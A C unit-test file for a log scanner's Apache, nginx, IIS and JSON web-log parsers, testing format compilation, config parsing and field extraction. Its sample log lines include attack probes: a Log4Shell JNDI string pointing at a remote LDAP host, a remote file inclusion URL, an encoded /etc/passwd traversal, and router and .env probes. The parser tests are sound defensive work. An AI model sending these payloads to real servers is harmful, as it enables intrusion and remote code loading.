/* Web access logs: the format engine (compile errors and their offsets,
 * Apache and nginx strings, strftime/epoch/ISO stamps, %U%q), the weblog
 * parser on real Apache/nginx lines of tests/data/weblog/ (combined,
 * common, nginx with X-Forwarded-For, escaped quotes, garbage requests,
 * zones other than UTC), configuration files, and the iis and
 * weblog-json readers on the constructed fixtures. */
#include "test_parse_vendor_util.h"

#include <unistd.h>

#include "core/util.h"
#include "parse/weblog_format.h"

static void http_eq(const char *what, struct slice s, const char *want)
{
	vt_slice_eq(what, s, want);
}

static const char *utc(const struct event *ev)
{
	static char buf[48];
	assert_true(ev->flags & EVENT_HAS_TIME);
	return time_format_rfc3339_utc(ev->time_ns, buf);
}

static const char *src(const struct event *ev)
{
	static char buf[ADDR_STRLEN];
	assert_true(ev->flags & EVENT_HAS_SRC);
	return addr_format(&ev->src, buf);
}

/* Run parser p on line with format f (NULL: detect); ctx lives in *ctx. */
/* In the line, or in the context's buffer of decoded JSON strings. */
static void slice_ok(const struct parse_ctx *ctx, struct slice s, const char *b, size_t len)
{
	if (s.len && s.ptr >= ctx->unescaped && s.ptr < ctx->unescaped + sizeof(ctx->unescaped))
		assert_true(s.ptr + s.len <= ctx->unescaped + sizeof(ctx->unescaped));
	else
		vt_slice_inside(s, b, len);
}

static enum parse_result run_fmt(const struct parser *p, const struct weblog_format *f,
				 struct parse_ctx *ctx, const char *line, struct event *ev)
{
	size_t len = strlen(line);
	const char *copy = vt_copy(line, len);
	parse_ctx_init(ctx, VT_REF, 0, NULL);
	ctx->weblog = f;
	event_clear(ev);
	enum parse_result r = p->parse_line(ctx, copy, len, ev);
	if (r == PARSE_MALFORMED)
		assert_non_null(ctx->reason);
	if (r == PARSE_EVENT) {
		assert_ptr_equal(ev->http, &ctx->http);
		assert_int_equal(ev->proto, IPPROTO_NUM_TCP);
		assert_int_equal(ev->action, EVENT_ACTION_ACCEPT);
		assert_int_equal(ev->outcome, EVENT_OUTCOME_OPEN);
		slice_ok(ctx, ev->http->request, copy, len);
		slice_ok(ctx, ev->http->user_agent, copy, len);
		slice_ok(ctx, ev->http->referrer, copy, len);
		slice_ok(ctx, ev->http->method, copy, len);
	}
	return r;
}

static void test_named(void **state)
{
	(void)state;
	const struct weblog_format *f;
	size_t n = 0;
	for (; (f = weblog_format_nth(n)) != NULL; n++)
		assert_true(f->n_ops > 0); /* every built-in string compiles */
	assert_true(n >= 9);
	assert_non_null(weblog_format_named("combined"));
	assert_non_null(weblog_format_named("main"));
	assert_null(weblog_format_named("nonesuch"));
}

/* The compiler says where a format goes wrong. */
static void bad_format(const char *s, size_t want_at, const char *want_msg)
{
	struct weblog_format f;
	char err[160];
	size_t at = 9999;
	if (weblog_format_compile(&f, "t", s, strlen(s), err, sizeof(err), &at) == 0)
		fail_msg("'%s' compiled", s);
	assert_int_equal(at, want_at);
	if (!strstr(err, want_msg))
		fail_msg("'%s': message '%s' lacks '%s'", s, err, want_msg);
}

static void test_compile_errors(void **state)
{
	(void)state;
	bad_format("%h %l %u %t \"%r\" %>s %Z", 22, "unknown Apache directive");
	bad_format("%h %{Referer i", 4, "'{' without '}'");
	bad_format("%h %u%t", 5, "nothing between");
	bad_format("%h %", 3, "at the end");
	bad_format("just words", 10, "no %directive");
	bad_format("$remote_addr $", 13, "without a variable name");
	bad_format("$remote_addr ${status", 21, "without '}'");
	bad_format("%h %i", 3, "header name");

	char err[1024];
	struct weblog_format f;
	assert_int_equal(weblog_format_resolve(&f, "%h %>s %Q", NULL, err, sizeof(err)), -1);
	/* the message shows the string and a caret under the 'Q' */
	const char *caret = strchr(err, '^');
	assert_non_null(caret);
	const char *nl = strrchr(err, '\n');
	assert_non_null(nl);
	assert_int_equal(caret - (nl + 1), 2 + 8);
	assert_int_equal(weblog_format_resolve(&f, "combind", NULL, err, sizeof(err)), -1);
	assert_non_null(strstr(err, "unknown log format name"));
	assert_int_equal(weblog_format_resolve(&f, "vhost_combined", NULL, err, sizeof(err)), 0);
	assert_string_equal(f.name, "vhost_combined");
}

/* Real combined lines (teliten-vps): a router exploit, a TLS hello sent
 * to port 80, a timed-out connection, Apache's \" escapes. */
static void test_combined(void **state)
{
	(void)state;
	const struct parser *P = &parser_weblog;
	struct parse_ctx ctx;
	struct event ev;
	assert_int_equal(run_fmt(P, NULL, &ctx,
				 "190.180.154.155 - - [28/Apr/2022:01:33:05 +0000] \"GET "
				 "/boaform/admin/formLogin?username=user&psd=user HTTP/1.0\" 404 451 "
				 "\"-\" \"-\"",
				 &ev),
			 PARSE_EVENT);
	assert_string_equal(src(&ev), "190.180.154.155");
	assert_string_equal(utc(&ev), "2022-04-28T01:33:05Z");
	http_eq("method", ev.http->method, "GET");
	http_eq("target", ev.http->target, "/boaform/admin/formLogin?username=user&psd=user");
	http_eq("version", ev.http->version, "HTTP/1.0");
	assert_int_equal(ev.http->status, 404);
	assert_int_equal(ev.http->bytes, 451);
	assert_int_equal(ev.http->referrer.len, 0);
	assert_int_equal(ev.http->user_agent.len, 0);
	assert_false(ev.flags & (EVENT_HAS_PORTS | EVENT_HAS_DST));

	assert_int_equal(run_fmt(P, NULL, &ctx,
				 "109.237.103.118 - - [28/Apr/2022:02:12:29 +0000] "
				 "\"\\x16\\x03\\x01\\x01D\\x01\" 400 0 \"-\" \"-\"",
				 &ev),
			 PARSE_EVENT);
	http_eq("request", ev.http->request, "\\x16\\x03\\x01\\x01D\\x01");
	assert_int_equal(ev.http->method.len + ev.http->target.len, 0);
	assert_int_equal(ev.http->status, 400);

	assert_int_equal(run_fmt(P, NULL, &ctx,
				 "146.255.185.154 - - [28/Apr/2022:03:11:08 +0000] \"-\" 408 0 \"-\" \"-\"",
				 &ev),
			 PARSE_EVENT);
	http_eq("request", ev.http->request, "-");
	assert_int_equal(ev.http->status, 408);

	/* an escaped quote inside the agent, and inside a binary request */
	assert_int_equal(run_fmt(P, NULL, &ctx,
				 "64.124.51.154 - - [25/Jan/2022:07:50:41 +0000] \"GET / HTTP/1.1\" 200 "
				 "15389 \"-\" \"\\\"Mozilla/5.0 (Windows NT 6.1\"",
				 &ev),
			 PARSE_EVENT);
	http_eq("agent", ev.http->user_agent, "\\\"Mozilla/5.0 (Windows NT 6.1");
	assert_int_equal(run_fmt(P, NULL, &ctx,
				 "61.219.11.151 - - [19/Jan/2022:17:17:24 +0000] "
				 "\"dN\\x93\\xb9\\xe6\\xbcl\\xb6\\x92\\x84:\\xd7\\x03\\xf1N\\xb9\\xc5;"
				 "\\x90\\xc2\\xc6\\xba\\xe1I-\\\"\\xdds\\xba\\x1fgC:\\xb1\\xa7\\x80+\" 400 0 "
				 "\"-\" \"-\"",
				 &ev),
			 PARSE_EVENT);
	assert_int_equal(ev.http->status, 400);
	assert_int_equal(ev.http->method.len, 0);

	/* elastic-examples: referrer and agent */
	assert_int_equal(run_fmt(P, NULL, &ctx,
				 "83.149.9.216 - - [17/May/2015:10:05:03 +0000] \"GET "
				 "/presentations/logstash-monitorama-2013/images/kibana-search.png "
				 "HTTP/1.1\" 200 203023 "
				 "\"http://semicomplete.com/presentations/logstash-monitorama-2013/\" "
				 "\"Mozilla/5.0 (Macintosh; Intel Mac OS X 10_9_1) AppleWebKit/537.36 "
				 "(KHTML, like Gecko) Chrome/32.0.1700.77 Safari/537.36\"",
				 &ev),
			 PARSE_EVENT);
	http_eq("referrer", ev.http->referrer,
		"http://semicomplete.com/presentations/logstash-monitorama-2013/");
	assert_int_equal(ev.http->bytes, 203023);
}

/* Common (crowdsec), a zone other than UTC (OSSEC, -0300), nginx's
 * combined with X-Forwarded-For (fail2ban), vhost_combined. */
static void test_variants(void **state)
{
	(void)state;
	const struct parser *P = &parser_weblog;
	struct parse_ctx ctx;
	struct event ev;
	assert_int_equal(run_fmt(P, NULL, &ctx,
				 "172.17.0.1 - - [29/Sep/2021:12:37:05 +0000] \"GET "
				 "/start.php?lang=http://cirt.net/rfiinc.txt? HTTP/1.1\" 404 196",
				 &ev),
			 PARSE_EVENT);
	http_eq("target", ev.http->target, "/start.php?lang=http://cirt.net/rfiinc.txt?");
	assert_int_equal(ev.http->bytes, 196);
	assert_int_equal(ev.http->user_agent.len, 0);

	assert_int_equal(run_fmt(P, NULL, &ctx,
				 "193.91.75.11 - - [18/Aug/2006:13:23:13 -0300] \"GET /index.php HTTP/1.0\" "
				 "200 167 \"-\" \"Mozilla/5.0\"",
				 &ev),
			 PARSE_EVENT);
	assert_string_equal(utc(&ev), "2006-08-18T16:23:13Z");

	assert_int_equal(run_fmt(P, NULL, &ctx,
				 "7.8.9.10 - root [20/Jan/2015:01:17:07 +0100] \"GET /cgi-bin/recent.cgi "
				 "HTTP/1.1\" 404 162 \"-\" \"-\" \"-\"",
				 &ev),
			 PARSE_EVENT);
	assert_string_equal(utc(&ev), "2015-01-20T00:17:07Z");
	http_eq("user", ev.http->user, "root");

	assert_int_equal(run_fmt(P, NULL, &ctx,
				 "www.example.org:80 165.227.90.27 - - [28/Apr/2022:00:46:17 +0000] \"GET / "
				 "HTTP/1.1\" 200 15389 \"http://158.247.223.84:80/left.html\" \"Mozilla/5.0\"",
				 &ev),
			 PARSE_EVENT);
	http_eq("vhost", ev.http->vhost, "www.example.org");
	vt_slice_eq("sensor", ev.sensor, "www.example.org");
	assert_true(ev.flags & EVENT_HAS_PORTS);
	assert_int_equal(ev.dport, 80);
	assert_string_equal(src(&ev), "165.227.90.27");

	/* cut short (OSSEC's sample): recognised, malformed */
	vt_malformed(P,
		     "201-67-28-XXX.bsace703.dsl.brasiltelecom.net.br - - [16/Sep/2006:15:18:53 -0300] "
		     "\"GET /cursosuperior/index.php HTTP/1.1\"",
		     "log format");
	vt_malformed(P, "1.2.3.4 - - [28/Apr/2022:01:33:05 +0000] \"GET / HTTP/1.0\" 4x4 451", "status");
	vt_malformed(P, "1.2.3.4 - - [28/Apr/2022:01:33:65 +0000] \"GET / HTTP/1.0\" 404 451", "time");
	vt_result(P, "Apr 28 01:33:05 host sshd[1]: Accepted publickey", PARSE_UNKNOWN);
}

/* --log-format: an Apache string with the time first and host names
 * (OSSEC's sample), nginx strings, strftime/ISO/epoch stamps, %U%q. */
static void test_custom(void **state)
{
	(void)state;
	const struct parser *P = &parser_weblog;
	struct weblog_format f;
	char err[512];
	struct parse_ctx ctx;
	struct event ev;
	assert_int_equal(weblog_format_resolve(&f, "%t %l %u %h \"%r\" \"%{Referer}i\" %>s %b %T",
					       NULL, err, sizeof(err)),
			 0);
	assert_int_equal(run_fmt(P, &f, &ctx,
				 "[17/Dec/2005:09:15:06 -0500] - - 81.186.243.xxx \"POST "
				 "/wordpress/xmlrpc.php HTTP/1.1\" \"-\" 302 336 1",
				 &ev),
			 PARSE_EVENT);
	assert_false(ev.flags & EVENT_HAS_SRC); /* a name, not an address */
	http_eq("client", ev.http->client, "81.186.243.xxx");
	assert_string_equal(utc(&ev), "2005-12-17T14:15:06Z");
	http_eq("method", ev.http->method, "POST");
	assert_int_equal(ev.http->status, 302);
	/* a combined line does not follow it */
	assert_int_equal(run_fmt(P, &f, &ctx,
				 "1.2.3.4 - - [28/Apr/2022:01:33:05 +0000] \"GET / HTTP/1.0\" 404 451",
				 &ev),
			 PARSE_MALFORMED);

	assert_int_equal(weblog_format_resolve(&f,
					       "$remote_addr - $remote_user [$time_local] \"$request\" "
					       "$status $body_bytes_sent \"$http_referer\" "
					       "\"$http_user_agent\" $request_time $upstream_response_time",
					       NULL, err, sizeof(err)),
			 0);
	assert_int_equal(run_fmt(P, &f, &ctx,
				 "127.0.0.1 - - [29/Sep/2021:17:29:58 +0200] \"GET /%2fetc%2fpasswd "
				 "HTTP/1.1\" 404 162 \"-\" \"curl/7.68.0\" 0.000 -",
				 &ev),
			 PARSE_EVENT);
	assert_string_equal(utc(&ev), "2021-09-29T15:29:58Z");
	http_eq("agent", ev.http->user_agent, "curl/7.68.0");

	/* $time_local unbracketed before a blank; $host:$server_port; $msec */
	assert_int_equal(weblog_format_resolve(&f,
					       "$time_local $host:$server_port $server_addr "
					       "$remote_addr $request_method $uri?$args $status $msec",
					       NULL, err, sizeof(err)),
			 0);
	assert_int_equal(run_fmt(P, &f, &ctx,
				 "29/Sep/2021:17:29:58 +0200 example.org:8080 192.0.2.1 2001:db8::7 GET "
				 "/a.php?x=1 200 1632929398.125",
				 &ev),
			 PARSE_EVENT);
	assert_string_equal(utc(&ev), "2021-09-29T15:29:58.125Z");
	http_eq("target", ev.http->target, "/a.php?x=1");
	assert_int_equal(ev.dport, 8080);
	assert_true(ev.flags & EVENT_HAS_DST);
	assert_string_equal(src(&ev), "2001:db8::7");

	/* Apache: %{...}t with a zone, %U%q, %{sec}t */
	assert_int_equal(weblog_format_resolve(&f,
					       "%a [%{%Y-%m-%d %H:%M:%S %z}t] %m %U%q %>s %B",
					       NULL, err, sizeof(err)),
			 0);
	assert_int_equal(run_fmt(P, &f, &ctx,
				 "192.0.2.5 [2024-05-01 10:00:00 +0200] GET /x.cgi?a=b 404 12", &ev),
			 PARSE_EVENT);
	assert_string_equal(utc(&ev), "2024-05-01T08:00:00Z");
	http_eq("target", ev.http->target, "/x.cgi?a=b");
	assert_int_equal(weblog_format_resolve(&f, "%h %{msec}t %>s", NULL, err, sizeof(err)), 0);
	assert_int_equal(run_fmt(P, &f, &ctx, "192.0.2.5 1714557600123 200", &ev), PARSE_EVENT);
	assert_string_equal(utc(&ev), "2024-05-01T10:00:00.123Z");
	assert_int_equal(weblog_format_resolve(&f, "$time_iso8601 $remote_addr \"$request\" $status",
					       NULL, err, sizeof(err)),
			 0);
	assert_int_equal(run_fmt(P, &f, &ctx,
				 "2024-05-01T10:00:00+02:00 192.0.2.5 \"GET /.env HTTP/1.1\" 404", &ev),
			 PARSE_EVENT);
	assert_string_equal(utc(&ev), "2024-05-01T08:00:00Z");
	/* without a zone the stamp is local; before 1970 too (floored, not
	 * truncated): two hours apart across the epoch in any zone */
	assert_int_equal(run_fmt(P, &f, &ctx,
				 "1969-12-31T23:00:00.25 192.0.2.5 \"GET / HTTP/1.1\" 200", &ev),
			 PARSE_EVENT);
	int64_t before = ev.time_ns;
	assert_int_equal(run_fmt(P, &f, &ctx,
				 "1970-01-01T01:00:00.25 192.0.2.5 \"GET / HTTP/1.1\" 200", &ev),
			 PARSE_EVENT);
	assert_true(ev.time_ns - before == 2 * 3600 * NS_PER_SEC);
}

static char *write_tmp(const char *text)
{
	static char path[64];
	snprintf(path, sizeof(path), "/tmp/clscan-weblog-XXXXXX");
	int fd = mkstemp(path);
	assert_true(fd >= 0);
	FILE *f = fdopen(fd, "w");
	assert_non_null(f);
	fputs(text, f);
	fclose(f);
	return path;
}

static void test_conf(void **state)
{
	(void)state;
	struct weblog_format f;
	char err[512];
	/* Debian's apache2.conf, and a site's CustomLog */
	char *path = write_tmp(
		"# comment\n"
		"LogFormat \"%v:%p %h %l %u %t \\\"%r\\\" %>s %O \\\"%{Referer}i\\\" \\\"%{User-Agent}i\\\"\" vhost_combined\n"
		"LogFormat \"%h %l %u %t \\\"%r\\\" %>s %O \\\"%{Referer}i\\\" \\\"%{User-Agent}i\\\"\" combined\n"
		"LogFormat \"%t %h \\\"%r\\\" %>s\" mine\n"
		"<VirtualHost *:80>\n"
		"\tCustomLog ${APACHE_LOG_DIR}/access.log mine\n"
		"</VirtualHost>\n");
	assert_int_equal(weblog_format_resolve(&f, NULL, path, err, sizeof(err)), 0);
	assert_string_equal(f.name, "mine");
	assert_int_equal(weblog_format_resolve(&f, "vhost_combined", path, err, sizeof(err)), 0);
	assert_string_equal(f.name, "vhost_combined");
	assert_int_equal(f.ops[0].field, WLF_VHOST);
	assert_int_equal(weblog_format_resolve(&f, "nope", path, err, sizeof(err)), -1);
	assert_non_null(strstr(err, "no format named 'nope'"));
	unlink(path);

	/* nginx: strings over several lines, escape=, access_log naming it */
	path = write_tmp("http {\n"
			 "    log_format  main  '$remote_addr - $remote_user [$time_local] \"$request\" '\n"
			 "                      '$status $body_bytes_sent \"$http_referer\" '\n"
			 "                      '\"$http_user_agent\" \"$http_x_forwarded_for\"';\n"
			 "    log_format j escape=json '{\"ip\":\"$remote_addr\",\"s\":$status}';\n"
			 "    access_log  /var/log/nginx/access.log  main buffer=32k;\n"
			 "}\n");
	assert_int_equal(weblog_format_resolve(&f, NULL, path, err, sizeof(err)), 0);
	assert_string_equal(f.name, "main");
	struct parse_ctx ctx;
	struct event ev;
	assert_int_equal(run_fmt(&parser_weblog, &f, &ctx,
				 "12.34.56.78 - - [20/Jan/2015:19:53:28 +0100] \"GET "
				 "//pma/scripts/setup.php HTTP/1.1\" 404 47 \"-\" \"-\" \"-\"",
				 &ev),
			 PARSE_EVENT);
	http_eq("target", ev.http->target, "//pma/scripts/setup.php");
	assert_int_equal(weblog_format_resolve(&f, "j", path, err, sizeof(err)), 0);
	assert_int_equal(f.lead_len, 7); /* {"ip":" */
	unlink(path);
	/* a server block on one line; "off" skipped; nginx's default "combined" */
	path = write_tmp("log_format short '$remote_addr $status';\n"
			 "server { listen 80; access_log off; access_log /var/log/x.log short; }\n");
	assert_int_equal(weblog_format_resolve(&f, NULL, path, err, sizeof(err)), 0);
	assert_string_equal(f.name, "short");
	unlink(path);
	path = write_tmp("server {\n  access_log /var/log/nginx/access.log;\n}\n");
	assert_int_equal(weblog_format_resolve(&f, NULL, path, err, sizeof(err)), 0);
	assert_string_equal(f.name, "combined");
	unlink(path);

	path = write_tmp("LogFormat \"%h %Y\" broken\nCustomLog /x broken\n");
	assert_int_equal(weblog_format_resolve(&f, NULL, path, err, sizeof(err)), -1);
	assert_non_null(strstr(err, "character 5"));
	unlink(path);
	assert_int_equal(weblog_format_resolve(&f, NULL, "/nonexistent/apache2.conf", err, sizeof(err)),
			 -1);
}

/* A whole fixture through a stateful parser, as the pipeline reads it. */
static struct vt_counts run_file(const struct parser *p, const char *rel)
{
	char path[512];
	snprintf(path, sizeof(path), "%s/%s", TEST_DATA_DIR, rel);
	FILE *f = fopen(path, "rb");
	if (!f)
		fail_msg("cannot open %s", path);
	struct vt_counts c = {0, 0, 0, 0};
	struct parse_ctx ctx;
	parse_ctx_init(&ctx, VT_REF, 0, NULL);
	ctx.state = p->state_size ? calloc(1, p->state_size) : NULL;
	char buf[8192];
	while (fgets(buf, sizeof(buf), f)) {
		size_t len = strlen(buf);
		if (len && buf[len - 1] == '\n')
			buf[--len] = '\0';
		struct event ev;
		event_clear(&ev);
		switch (p->parse_line(&ctx, vt_copy(buf, len), len, &ev)) {
		case PARSE_EVENT: c.event++; break;
		case PARSE_OTHER: c.other++; break;
		case PARSE_MALFORMED: c.malformed++; break;
		default: c.unknown++; break;
		}
	}
	fclose(f);
	free(ctx.state);
	return c;
}

static void test_fixtures(void **state)
{
	(void)state;
	vt_examples(&parser_weblog);
	vt_examples(&parser_weblog_json);
	static const char *const weblog_files[] = {
		"weblog/apache_combined_teliten.log",	  "weblog/apache_common_crowdsec_probing.log",
		"weblog/apache_combined_crowdsec_http.log", "weblog/nginx_combined_crowdsec.log",
		"weblog/nginx_xff_fail2ban_botsearch.log",  "weblog/vhost_combined_constructed.log",
		"weblog/apache_escapes_teliten.log",
	};
	for (size_t i = 0; i < ARRAY_LEN(weblog_files); i++) {
		struct vt_counts c = vt_fixture(&parser_weblog, weblog_files[i]);
		if (c.event == 0 || c.other + c.malformed + c.unknown != 0)
			fail_msg("%s: %u events, %u other, %u malformed, %u unknown", weblog_files[i],
				 c.event, c.other, c.malformed, c.unknown);
	}
	/* OSSEC's sample: two lines are cut short after the request */
	struct vt_counts c = vt_fixture(&parser_weblog, "weblog/apache_ossec_attacks.log");
	assert_int_equal(c.event, 8);
	assert_int_equal(c.malformed, 2);
	c = vt_fixture(&parser_weblog_json, "weblog/nginx_json_constructed.log");
	assert_int_equal(c.event, 40);
	assert_int_equal(c.other + c.malformed + c.unknown, 0);
	c = vt_fixture(&parser_weblog_json, "weblog/nginx_json_iso_constructed.log");
	assert_int_equal(c.event, 39);
	c = run_file(&parser_iis, "weblog/iis_w3c_constructed.log");
	assert_int_equal(c.other, 4);
	assert_true(c.event > 100);
	assert_int_equal(c.malformed + c.unknown, 0);
}

static void test_iis(void **state)
{
	(void)state;
	const struct parser *P = &parser_iis;
	struct parse_ctx ctx;
	parse_ctx_init(&ctx, VT_REF, 0, NULL);
	ctx.state = calloc(1, P->state_size);
	struct event ev;
	static const char *const lines[] = {
		"#Software: Microsoft Internet Information Services 10.0",
		"#Fields: date time cs-host s-port c-ip cs-method cs-uri-stem cs-uri-query sc-status "
		"sc-bytes cs(User-Agent) cs(Referer)",
		"2024-05-02 03:14:07 www.example.org 443 198.51.100.23 GET /owa/auth/logon.aspx "
		"replaceCurrent=1 404 1245 Mozilla/5.0+zgrab/0.x -",
	};
	enum parse_result want[] = {PARSE_OTHER, PARSE_OTHER, PARSE_EVENT};
	for (size_t i = 0; i < 3; i++) {
		event_clear(&ev);
		const char *copy = vt_copy(lines[i], strlen(lines[i]));
		assert_int_equal(P->parse_line(&ctx, copy, strlen(lines[i]), &ev), want[i]);
	}
	assert_string_equal(utc(&ev), "2024-05-02T03:14:07Z");
	assert_string_equal(src(&ev), "198.51.100.23");
	http_eq("target", ev.http->target, "/owa/auth/logon.aspx?replaceCurrent=1");
	http_eq("method", ev.http->method, "GET");
	http_eq("vhost", ev.http->vhost, "www.example.org");
	assert_int_equal(ev.dport, 443);
	assert_int_equal(ev.http->status, 404);
	assert_int_equal(ev.http->bytes, 1245);
	assert_int_equal(ev.http->referrer.len, 0);
	/* IIS writes a header's blanks as '+': the agent gets them back */
	http_eq("user agent", ev.http->user_agent, "Mozilla/5.0 zgrab/0.x");
	const char *nse = "2024-05-02 03:14:08 www.example.org 443 198.51.100.23 GET / - 404 0 "
			  "Mozilla/5.0+(compatible;+Nmap+Scripting+Engine;+https://nmap.org/book/nse.html) "
			  "http://x.example/?a+b";
	event_clear(&ev);
	assert_int_equal(P->parse_line(&ctx, vt_copy(nse, strlen(nse)), strlen(nse), &ev), PARSE_EVENT);
	http_eq("user agent", ev.http->user_agent,
		"Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)");
	http_eq("referrer", ev.http->referrer, "http://x.example/?a b");
	event_clear(&ev);
	const char *short_line = "2024-05-02 03:14:07 www.example.org 443 198.51.100.23 GET";
	assert_int_equal(P->parse_line(&ctx, short_line, strlen(short_line), &ev), PARSE_MALFORMED);
	free(ctx.state);

	assert_true(P->detect(lines[0], strlen(lines[0])) >= DETECT_STRONG);
	/* the examples of `clscan formats`: the header names the columns */
	parse_ctx_init(&ctx, VT_REF, 0, NULL);
	ctx.state = calloc(1, P->state_size);
	for (const struct parser_example *e = P->examples; e->line; e++) {
		event_clear(&ev);
		enum parse_result r = P->parse_line(&ctx, e->line, strlen(e->line), &ev);
		assert_int_equal(r, e->line[0] == '#' ? PARSE_OTHER : PARSE_EVENT);
		assert_true(P->detect(e->line, strlen(e->line)) > 0);
	}
	free(ctx.state);
	/* Windows Firewall's W3C header is not IIS */
	const char *fw = "#Fields: date time action protocol src-ip dst-ip src-port dst-port size";
	assert_int_equal(P->detect(fw, strlen(fw)), 0);
}

static void test_json(void **state)
{
	(void)state;
	const struct parser *P = &parser_weblog_json;
	struct parse_ctx ctx;
	struct event ev;
	assert_int_equal(run_fmt(P, NULL, &ctx,
				 "{\"@timestamp\":\"2022-04-28T03:57:54+00:00\",\"host\":\"www.example.org\","
				 "\"remote_addr\":\"213.226.123.30\",\"request_method\":\"GET\","
				 "\"request_uri\":\"/index.php?s=/Index/\\\\think\",\"status\":404,"
				 "\"body_bytes_sent\":456,\"http_user_agent\":\"Mozilla/5.0\"}",
				 &ev),
			 PARSE_EVENT);
	assert_string_equal(utc(&ev), "2022-04-28T03:57:54Z");
	http_eq("method", ev.http->method, "GET");
	http_eq("target", ev.http->target, "/index.php?s=/Index/\\think"); /* \\ decoded */
	http_eq("vhost", ev.http->vhost, "www.example.org");
	assert_int_equal(ev.http->status, 404);
	assert_int_equal(ev.http->bytes, 456);
	assert_int_equal(run_fmt(P, NULL, &ctx,
				 "{\"time\":1714557600.5,\"client\":\"192.0.2.9\",\"method\":\"POST\","
				 "\"path\":\"/xmlrpc.php\",\"query\":\"a=1\",\"status\":\"200\"}",
				 &ev),
			 PARSE_EVENT);
	assert_string_equal(utc(&ev), "2024-05-01T10:00:00.500Z");
	http_eq("target", ev.http->target, "/xmlrpc.php?a=1");
	/* nginx escape=json writes a quote as \" and other bytes as \u00XX: the
	 * request and agent are matched decoded */
	assert_int_equal(run_fmt(P, NULL, &ctx,
				 "{\"time_local\":\"28/Apr/2022:01:33:05 +0000\",\"remote_addr\":"
				 "\"192.0.2.7\",\"request\":\"GET /?q=\\\"x\\\" HTTP/1.1\",\"status\":"
				 "\"400\",\"http_user_agent\":\"\\u0024{jndi:ldap://192.0.2.8/a}\"}",
				 &ev),
			 PARSE_EVENT);
	http_eq("target", ev.http->target, "/?q=\"x\"");
	http_eq("agent", ev.http->user_agent, "${jndi:ldap://192.0.2.8/a}");
	vt_malformed(P, "{\"remote_addr\":\"1.2.3.4\",\"status\":200,\"request\":\"GET / HTTP/1.1\"",
		     "JSON");
	/* Suricata's http event: status is not a top-level member */
	const char *eve = "{\"timestamp\":\"2024-05-01T10:00:00+0000\",\"event_type\":\"http\","
			  "\"src_ip\":\"192.0.2.1\",\"http\":{\"url\":\"/\",\"status\":200}}";
	assert_int_equal(P->detect(eve, strlen(eve)), 0);
	assert_int_equal(parser_weblog.detect(eve, strlen(eve)), 0);
}

static void test_truncations(void **state)
{
	(void)state;
	static const char line[] =
		"www.example.org:80 64.124.51.154 - - [25/Jan/2022:07:50:41 +0000] \"GET / HTTP/1.1\" "
		"200 15389 \"-\" \"\\\"Mozilla/5.0 (Windows NT 6.1\"";
	vt_truncations(&parser_weblog, line, sizeof(line) - 1);
	static const char js[] = "{\"time_local\":\"28/Apr/2022:00:46:17 +0000\",\"remote_addr\":"
				 "\"165.227.90.27\",\"request\":\"GET / HTTP/1.1\",\"status\":\"200\"}";
	vt_truncations(&parser_weblog_json, js, sizeof(js) - 1);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_named),	 cmocka_unit_test(test_compile_errors),
		cmocka_unit_test(test_combined), cmocka_unit_test(test_variants),
		cmocka_unit_test(test_custom),	 cmocka_unit_test(test_conf),
		cmocka_unit_test(test_fixtures), cmocka_unit_test(test_iis),
		cmocka_unit_test(test_json),	 cmocka_unit_test(test_truncations),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
